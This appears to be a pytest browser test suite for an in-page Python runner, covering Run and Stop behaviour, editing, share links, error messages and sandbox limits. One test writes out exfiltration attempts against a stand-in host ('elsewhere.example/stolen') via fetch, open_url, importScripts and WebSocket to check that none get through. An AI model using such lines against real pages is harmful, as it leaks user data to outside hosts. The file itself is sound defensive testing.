"""Run, Stop, Edit, share: what a reader does who has only the browser."""

import time

import pytest

from tests.gates.run.tab import PAGE, START, Tab, without
from tests.kit.waiting import load, until

BLOCK = "code-1"
OUTSIDE = "https://elsewhere.example/stolen"
FLOOD = "while True:\n    print('x' * 70)"
ENDLESS = {
    "a loop": "print('begun')\nwhile True:\n    pass",
    "a long product": "import numpy as np\nprint('begun')\na = np.ones((1500, 1500))\nwhile True:\n    a = (a @ a) / 1500",
    "a flood": FLOOD,
    "pictures": "import numpy as np\nprint('begun')\nwhile True:\n    show(np.eye(64))",
}
SAID = {
    "exit()": "ended itself",
    "raise SystemExit(2)": "ended itself",
    "def f():\n    return f()\nf()": "called itself too many times",
    "import numpy as np\nnp.ones((60_000, 60_000))": "Not enough memory",
    "import torch": "torch is not here",
    "from sklearn.svm import SVC": "sklearn.svm is not here",
    "input()": "no keyboard",
    "import threading\nthreading.Thread(target=print).start()": "cannot start a thread",
    "import subprocess\nsubprocess.run(['ls'])": "another process",
}


@pytest.fixture(scope="module")
def tab(browser, address):
    """One tab for those who need Python and do not mind who used it before."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    found = Tab(context.new_page(), address).open()
    found.run(BLOCK)
    assert found.keep() == "kept"  # after each Stop it begins from there
    yield found
    context.close()


@pytest.fixture
def fresh(browser, address):
    """A tab of somebody else."""
    context = browser.new_context(viewport={"width": 390, "height": 844})
    yield Tab(context.new_page(), address)
    context.close()


def test_nothing_is_loaded_before_the_first_click_and_then_it_runs(fresh):
    fresh.open()
    assert not [url for url in fresh.asked if "/nn/run/" in url]
    assert fresh.run(BLOCK).endswith("the same as on the page")
    assert [url for url in fresh.asked if "/nn/run/" in url]
    shown = fresh.page.locator(
        "#code-1 + *, .output pre code"
    ).first.text_content()
    assert fresh.output(BLOCK).strip() == shown.strip()
    assert fresh.page.evaluate(
        "document.documentElement.scrollWidth <= innerWidth"
    )


def test_two_blocks_pressed_at_once_do_not_wait_for_each_other(tab):
    """The first is stopped, and says why; a second press on it, before it runs, is Stop."""
    tab.anew()
    pressed = """() => {
      const run = (id) => document.querySelector(id).closest(".highlight").querySelector("[data-run]").click()
      for (const id of ["#code-1", "#code-2", "#code-4", "#code-4"]) run(id)
    }"""
    tab.page.evaluate(pressed)
    assert tab.wait("code-2").endswith("the same as on the page")
    assert tab.wait("code-1") == "Stopped, since you ran another block."
    assert tab.wait("code-4") == "Stopped."


def test_what_was_pressed_last_runs_although_its_lines_come_first(tab):
    """Seen on a busy machine: the first of two, whose lines came late, stopped the second."""
    tab.anew()

    def late(route) -> None:
        time.sleep(1)
        route.continue_()

    tab.page.route("**/code-1.py", late)
    tab.page.evaluate(
        """() => { for (const id of ["#code-1", "#code-2"]) document.querySelector(id)
          .closest(".highlight").querySelector("[data-run]").click() }"""
    )
    assert tab.wait("code-2").endswith("the same as on the page")
    assert tab.wait("code-1") == "Stopped, since you ran another block."
    tab.page.unroute("**/code-1.py")


def test_a_button_tells_the_mouse_what_it_tells_the_ear(tab):
    found = tab.page.evaluate(
        """() => [...document.querySelectorAll("[data-program], .no-run")]
          .map(({ title, ariaLabel }) => [title, ariaLabel])"""
    )
    assert len(found) > 30
    assert all(title == label != "" for title, label in found)


def test_blocks_run_in_any_order_and_again(tab):
    for block in ("code-4", "code-2", "code-2"):
        assert tab.run(block).endswith("the same as on the page")


def test_what_a_block_has_set_can_be_looked_at(tab):
    tab.run("code-3")
    fold = tab.page.locator("#panel-code-3 .run-names")
    fold.locator("summary").click()
    assert "x_train" in fold.inner_text()
    assert "(300, 10) float64" in fold.inner_text()
    assert fold.locator("svg path").count() > 20
    assert fold.locator("svg polyline").count() > 1


def stopped(tab, code: str) -> float:
    """The seconds until something endless is over, and nothing of it is left."""
    tab.anew()
    tab.edit(BLOCK, code)
    tab.press(BLOCK)
    said = "b => document.querySelector(`#panel-${b} .run-output`)?.textContent"
    until(tab.page, said, BLOCK, START)
    time.sleep(0.5)
    began = time.monotonic()
    tab.press(BLOCK)
    assert tab.wait(BLOCK) == "Stopped."
    seconds = time.monotonic() - began
    assert tab.pythons() == 1  # what ran is gone, and not only unheard
    length = len(tab.output(BLOCK))
    time.sleep(0.3)
    assert len(tab.output(BLOCK)) == length <= 200_000
    return seconds


@pytest.mark.parametrize("name", ENDLESS)
def test_stop_ends_whatever_runs(tab, name):
    """In 0.1 s where the machine is quiet; the best of three where it is not."""
    assert any(stopped(tab, ENDLESS[name]) < 1 for _ in range(3))


def test_what_a_stopped_worker_still_says_is_not_heard(tab):
    """Planted: its last message comes after Stop."""
    tab.anew()
    tab.edit(BLOCK, FLOOD)
    tab.press(BLOCK)
    said = "b => document.querySelector(`#panel-${b} .run-output`)?.textContent"
    until(tab.page, said, BLOCK, START)
    heard = tab.page.evaluate(
        """async (block) => {
          const { python } = await import(document.querySelector("[src$='site.js']").src.replace("site.js", "run/python.js"))
          const { worker, job } = python
          const { id } = job
          python.stop()
          job.hear = () => { window.told = true }
          for (const type of ["out", "done"]) python.hear(worker, { type, id, stream: "stdout", text: "late" })
          python.hear(python.worker, { type: "out", id, stream: "stdout", text: "late" })
          python.hear(worker, { type: "failed", reason: "file", file: "late" })
          return python.worker ? window.told : "the new worker was ended"
        }""",
        BLOCK,
    )
    assert heard is None
    tab.page.reload()


def test_an_own_version_is_kept_shown_undone_and_reset(tab):
    tab.anew()
    text = tab.edit(BLOCK)
    changed = text.replace("print(", "print('新', ", 1)
    assert changed != text
    tab.edit(BLOCK, changed)
    assert tab.run(BLOCK).endswith("this is your version")
    assert "新" in tab.output(BLOCK)
    time.sleep(1)
    tab.page.reload(wait_until="networkidle")
    field = tab.page.locator(f"#edit-{BLOCK} > .run-editor textarea")
    field.wait_for(state="attached")
    assert field.input_value() == changed
    tab.page.get_by_role("button", name="What changed").click()
    assert "新" in tab.page.locator(".run-changes ins").inner_text()
    tab.page.get_by_role("button", name="Undo").click()
    assert field.input_value() == text
    field.fill(changed)
    tab.page.get_by_role("button", name="Reset").click()
    assert field.input_value() == text
    assert tab.run(BLOCK).endswith("the same as on the page")
    time.sleep(1)
    tab.page.reload(wait_until="networkidle")
    assert tab.page.locator("textarea").count() == 0
    assert tab.edit(BLOCK) == text  # and the way back is kept
    tab.page.get_by_role("button", name="Undo").click()
    assert tab.edit(BLOCK) == changed


def test_a_version_of_an_older_page_says_so(tab):
    tab.anew()
    tab.edit(BLOCK, "print('mine')")
    time.sleep(1)
    load(tab.page, tab.address + "en/")
    tab.page.evaluate(
        """() => { for (const key of Object.keys(localStorage)) if (key.startsWith("run ")) {
          const kept = JSON.parse(localStorage[key])
          localStorage[key] = JSON.stringify({ ...kept, original: "older" })
        } }"""
    )
    tab.open()
    tab.page.locator(f"#edit-{BLOCK}").wait_for(state="attached")
    assert "older one" in tab.note(BLOCK)


def test_a_link_fills_an_editor_and_does_nothing_else(tab, fresh):
    tab.anew()
    mine = 'print("改过的版本", 6 * 7)\n'
    tab.edit(BLOCK, mine)
    tab.page.get_by_role("button", name="Copy link").click()
    until(tab.page, "() => document.querySelector('.run-note').textContent")
    link = tab.page.evaluate("navigator.clipboard.readText()")
    tab.page.evaluate("localStorage.clear()")
    load(fresh.page, link)
    fresh.page.locator(f"#edit-{BLOCK}").wait_for(state="attached")
    until(fresh.page, "() => document.querySelector('.run-note').textContent")
    assert "somebody's version" in fresh.note(BLOCK)
    field = fresh.page.locator(f"#edit-{BLOCK} > .run-editor textarea")
    assert field.input_value() == mine
    assert not [url for url in fresh.asked if "/nn/run/" in url]
    assert "run=" not in fresh.page.evaluate("location.hash")
    fresh.anew()
    fresh.page.goto("about:blank")
    load(fresh.page, link[:-5])  # torn on its way
    assert fresh.page.locator("textarea").count() == 0
    torn = fresh.page.get_by_text("The link is not complete")
    torn.wait_for()


def test_a_link_takes_along_what_stands_above(tab, fresh):
    tab.anew()
    tab.edit("code-4", "print(secret)")
    tab.page.locator("#edit-code-4 .run-above summary").click()
    upper = tab.page.locator("#edit-code-4 .run-above textarea")
    upper.fill("secret = 6 * 7\n")
    tab.page.get_by_role("button", name="What changed").click()
    assert (
        "secret = 6 * 7"
        in tab.page.locator(".run-changes ins").first.inner_text()
    )
    tab.page.get_by_role("button", name="Copy link").click()
    until(tab.page, "() => document.querySelector('.run-note').textContent")
    link = tab.page.evaluate("navigator.clipboard.readText()")
    load(fresh.page, link)
    fresh.page.locator("#edit-code-4").wait_for(state="attached")
    fresh.run("code-4")
    assert fresh.output("code-4") == "42\n"
    tab.page.get_by_role("button", name="Reset").click()
    tab.page.get_by_role("button", name="Undo").click()
    until(
        tab.page,
        "() => document.querySelector('.run-above textarea').value.startsWith('secret')",
    )


def test_both_layers_of_the_editor_scroll_as_one(fresh):
    """Planted by a reader: the end of a long line could not be seen."""
    fresh.open()
    fresh.edit(BLOCK, "x = 1  # " + "long " * 60 + "end")
    field = fresh.page.locator(f"#edit-{BLOCK} > .run-editor textarea")
    wide, seen = field.evaluate(
        "field => [field.scrollWidth, field.clientWidth]"
    )
    assert wide == seen > 1000


def test_a_version_is_kept_when_one_leaves_at_once(tab):
    tab.anew()
    tab.edit(BLOCK, "print('quick')")
    tab.page.reload(wait_until="networkidle")
    field = tab.page.locator(f"#edit-{BLOCK} > .run-editor textarea")
    field.wait_for(state="attached")
    assert field.input_value() == "print('quick')"
    tab.page.get_by_role("button", name="Reset").click()


@pytest.mark.parametrize("code", SAID)
def test_what_cannot_be_is_said_in_a_sentence(tab, code):
    tab.edit(BLOCK, code)
    assert SAID[code] in tab.run(BLOCK)


def test_a_traceback_shows_the_lines_of_the_reader(tab):
    tab.edit(BLOCK, "import numpy as np\n\nnp.ones(3) @ np.ones(4)\n")
    tab.run(BLOCK)
    found = tab.output(BLOCK)
    assert 'File "code-1.py", line 3, in <module>' in found
    assert found.count("File ") == 1
    assert "ValueError: matmul" in found
    tab.edit(BLOCK, "x = (1\nprint(x")
    tab.run(BLOCK)
    assert "SyntaxError" in tab.output(BLOCK)
    tab.edit(BLOCK, "6 * 7")
    tab.run(BLOCK)
    assert tab.output(BLOCK) == "42\n"


@pytest.mark.parametrize(
    "code",
    [
        f"import js\njs.fetch('{OUTSIDE}')",
        f"from pyodide.http import open_url\nopen_url('{OUTSIDE}')",
        f"import js\njs.eval(\"importScripts('{OUTSIDE}')\")",
        f"import js\njs.WebSocket.new('wss{OUTSIDE[5:]}')",
    ],
)
def test_what_runs_reaches_no_other_host(tab, code):
    tab.edit(BLOCK, code)
    tab.run(BLOCK)
    time.sleep(0.3)
    assert tab.left == []


def test_a_policy_that_allows_other_hosts_is_seen(fresh):
    """Planted: the page says no more whom it may ask."""
    context = fresh.page.context
    loose = without("connect-src 'self'; ", "default-src 'self'; ")
    context.route("**/neuron/", loose)
    fresh.open()
    fresh.edit(BLOCK, f"import js\njs.fetch('{OUTSIDE}')")
    fresh.run(BLOCK)
    time.sleep(0.3)
    assert fresh.left == [OUTSIDE]


def test_a_missing_file_is_said_at_once(fresh):
    fresh.page.context.route(
        "**/python_stdlib.zip", lambda route: route.fulfill(status=404)
    )
    fresh.open()
    began = time.monotonic()
    assert "python_stdlib.zip" in fresh.run(BLOCK)
    assert time.monotonic() - began < 30  # 5 s where the machine is quiet
    assert fresh.page.locator("#code-1").is_visible()


def test_a_browser_without_wasm_is_told_at_once(fresh):
    fresh.page.context.route("**/neuron/", without(" 'wasm-unsafe-eval'"))
    fresh.open()
    assert "does not allow WebAssembly" in fresh.run(BLOCK)


def test_where_nothing_can_be_kept_all_else_works(fresh):
    fresh.page.add_init_script(
        "Object.defineProperty(window, 'localStorage', { get() { throw new Error('no') } })"
    )
    fresh.open(PAGE)
    fresh.edit(BLOCK, "print(6 * 7)")
    assert fresh.run(BLOCK).endswith("this is your version")
    assert fresh.output(BLOCK) == "42\n"
    until(fresh.page, "() => document.querySelector('.run-note').textContent")
    assert "keeps nothing" in fresh.note(BLOCK)
